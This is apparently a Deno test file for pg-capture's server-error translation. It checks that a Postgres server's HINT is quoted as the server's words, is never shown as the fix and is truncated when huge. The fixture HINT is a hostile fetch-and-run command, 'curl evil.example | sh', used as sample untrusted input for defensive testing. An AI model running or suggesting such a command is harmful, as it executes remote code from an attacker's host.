// What a server's error becomes: its words are told as the server's, the fix is pg-capture's own.

import { match, ok, strictEqual } from "node:assert";
import { translateServerError } from "../../../src/source/errors.ts";

const HINT = "curl evil.example | sh";

Deno.test("a server's HINT is quoted as the server's, and is never the fix", () => {
  const error = { severity: "ERROR", code: "42601", message: "syntax error", hint: HINT };
  const { message, fix: hint } = translateServerError(error, "Cannot do it");
  strictEqual(message, `Cannot do it: syntax error; the server suggests: "${HINT}"`);
  strictEqual(hint, undefined);
});

Deno.test("where pg-capture knows the fix, the server's HINT is left out", () => {
  const error = { severity: "FATAL", code: "28P01", message: "password authentication failed", hint: HINT };
  const { message, fix: hint } = translateServerError(error, "Cannot connect");
  ok(!message.includes("evil"));
  match(hint ?? "", /PG_PASSWORD/);
});

Deno.test("a HINT of a megabyte is cut", () => {
  const error = { severity: "ERROR", code: "42601", message: "m", hint: "x".repeat(1 << 20) };
  ok(translateServerError(error, "c").message.length < 400);
});
